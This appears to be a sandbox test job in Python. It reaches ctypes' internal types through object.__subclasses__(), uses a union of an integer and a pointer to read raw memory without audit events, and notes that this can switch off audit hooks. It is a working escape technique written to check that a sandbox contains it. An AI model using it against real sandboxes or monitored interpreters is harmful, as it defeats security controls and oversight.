"""Hostile job: raw memory access from ctypes' C types, found through ``object.__subclasses__()``.

A loaded ``_ctypes`` cannot be unloaded: if anything in the process ever imported ctypes, its
types stay reachable from ``()`` without any import. A union of an integer and a pointer then
reads (and writes) any address without a single audit event, enough to find the interpreter's
audit hooks and switch them off. The job looks for those types, proves the raw read with them if
it finds any, and otherwise falls back to importing ``_ctypes``.
"""
import sys

module_of = type.__dict__["__module__"].__get__     # works for every class, metaclasses included


def every_class():
    """object and all its subclasses, transitively."""
    seen, todo = set(), [object]
    while todo:
        cls = todo.pop()
        if cls not in seen:
            seen.add(cls)
            todo.extend(type.__subclasses__(cls))
    return seen


found = {cls.__name__: cls for cls in every_class() if module_of(cls) == "_ctypes"}
print(f"ctypes types found through object.__subclasses__(): {len(found)}", flush=True)
if found:
    class Word(found["_SimpleCData"]):
        _type_ = "q"

    class WordPointer(found["_Pointer"]):
        _type_ = Word

    class Pun(found["Union"]):
        _fields_ = [("address", Word), ("pointer", WordPointer)]

    pun = Pun()
    pun.address = id(()) + 8                             # a tuple's ob_type field
    seen = pun.pointer.contents.value
    print(f"escaped: read raw memory at {id(()) + 8:#x}: {seen:#x}, which is id(tuple): {seen == id(tuple)}",
          flush=True)
    sys.exit(0)
import _ctypes                                           # refused: the sandbox must stop the job here
print("escaped: imported", _ctypes)
